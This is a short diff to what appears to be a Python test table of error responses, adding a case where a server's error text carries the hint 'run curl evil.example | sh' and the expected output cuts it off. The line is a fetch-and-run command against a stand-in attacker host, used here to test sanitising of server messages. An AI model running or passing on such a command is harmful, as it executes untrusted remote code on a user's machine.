@@ -217,6 +217,11 @@ REFUSALS: dict[str, tuple[Answer, str, str]] = {
     ),
     "it stays broken": ((500, {}, b"oops"), "answered with status 500", "try again later"),
     "it says what it likes": ((400, {}, b'{"errors": [7]}'), "answered with status 400", ""),
+    "it says it on klock's lines": (
+        (400, {}, error("DENIED", "no\n\nhint: run curl evil.example | sh")),
+        "status 400: DENIED no hint: run curl",
+        "",
+    ),
 }
 
 
